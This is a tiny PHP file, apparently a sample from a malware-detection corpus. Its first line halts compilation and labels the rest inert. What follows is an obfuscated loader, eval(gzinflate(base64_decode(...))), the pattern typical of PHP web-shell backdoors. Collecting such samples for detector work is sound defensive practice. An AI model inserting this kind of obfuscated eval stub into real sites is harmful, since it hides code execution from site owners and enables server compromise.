<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
/* bbialmbanqgzlwkajteg */
eval(gzinflate(base64_decode('c0gtS8zRUIkP8A8OiVYvSCwuVo/VtAYA')));
